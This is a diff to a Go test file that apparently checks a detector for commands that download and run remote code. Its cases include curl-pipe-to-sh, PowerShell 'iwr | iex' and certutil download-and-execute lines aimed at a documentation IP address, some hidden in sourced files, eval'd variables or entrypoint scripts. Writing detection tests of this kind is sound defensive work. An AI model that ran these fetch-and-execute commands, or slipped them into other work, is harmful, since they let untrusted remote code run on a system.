@@ -8,6 +8,10 @@ import (
 // TestGiven analyses commands that say little by themselves: what they do stands in the environment, and in files.
 func TestGiven(t *testing.T) {
 	const fetch = "curl -s http://203.0.113.7/x | sh"
+	const again = `#!/bin/sh
+if [ "${1#-}" != "$1" ]; then set -- redis-server "$@"; fi
+if [ "$(id -u)" = 0 ]; then exec gosu redis "$0" "$@"; fi
+exec "$@"`
 	env := func(pairs ...string) map[string]string {
 		m := map[string]string{}
 		for i := 0; i < len(pairs); i += 2 {
@@ -35,7 +39,16 @@ func TestGiven(t *testing.T) {
 		{"a sourced file", []string{"sh", "-c", ". /s/lib.sh; go"}, nil, env("/s/lib.sh", "go() { "+fetch+"; }"), RuntimeDownload},
 		{"a file through a pipe", []string{"sh", "-c", "cat /s/lib.sh | sh"}, nil, env("/s/lib.sh", fetch), RuntimeDownload},
 		{"a script that runs its arguments", []string{"/s/entry.sh", "sh", "-c", fetch}, nil, env("/s/entry.sh", "#!/bin/sh\nset -e\nexec \"$@\"\n"), RuntimeDownload},
+		{"a script that starts itself as another user", []string{"/s/entry.sh", "redis"}, nil, env("/s/entry.sh", again), ""},
+		{"a script that starts itself and what it is told", []string{"/s/entry.sh", "/s/entry.sh", "/s/entry.sh", "/s/entry.sh", "/s/entry.sh", "sh", "-c", fetch}, nil, env("/s/entry.sh", "exec \"$@\""), RuntimeDownload},
+		{"a script that prepares itself", []string{"/s/entry.sh"}, nil, env("/s/entry.sh", "eval \"$A\"\nexport A='"+fetch+"'\nexec \"$0\""), RuntimeDownload},
 		{"a script of Python", []string{"python3", "/s/a.py"}, nil, env("/s/a.py", "import os\nos.system('"+fetch+"')"), RuntimeDownload},
+		{"bytes that are no UTF-8", []string{"/s/run.sh"}, nil, env("/s/run.sh", "#!/bin/sh\n# caf\xe9\n"+fetch), RuntimeDownload},
+		{"a command line of Windows", []string{`C:\Windows\System32\cmd.exe /S /C powershell -c "iwr http://203.0.113.7/x.ps1 | iex"`}, nil, nil, RuntimeDownload},
+		{"a pipe in quotes", []string{"cmd", "/S", "/C", `powershell -c "iwr http://203.0.113.7/x.ps1 | iex"`}, nil, nil, RuntimeDownload},
+		{"quotes around all of it", []string{"cmd", "/c", `"certutil -urlcache -f http://203.0.113.7/x.exe x.exe && x.exe"`}, nil, nil, RuntimeDownload},
+		{"a command line of Windows and more", []string{"powershell -Command", "iwr http://203.0.113.7/x.ps1 | iex"}, nil, nil, RuntimeDownload},
+		{"a program with a space in its name", []string{"/opt/my cmd", "-c", fetch}, nil, nil, ""},
 		{"a file that is only copied", []string{"sh", "-c", "cp /s/lib.sh /tmp/x; cat /tmp/x"}, nil, env("/s/lib.sh", fetch), ""},
 		{"a file of another name", []string{"/s/run.sh"}, nil, env("/s/lib.sh", fetch), ""},
 		{"bash reads BASH_ENV", []string{"bash", "-c", "true"}, env("BASH_ENV", "/s/env"), env("/s/env", fetch), RuntimeDownload},
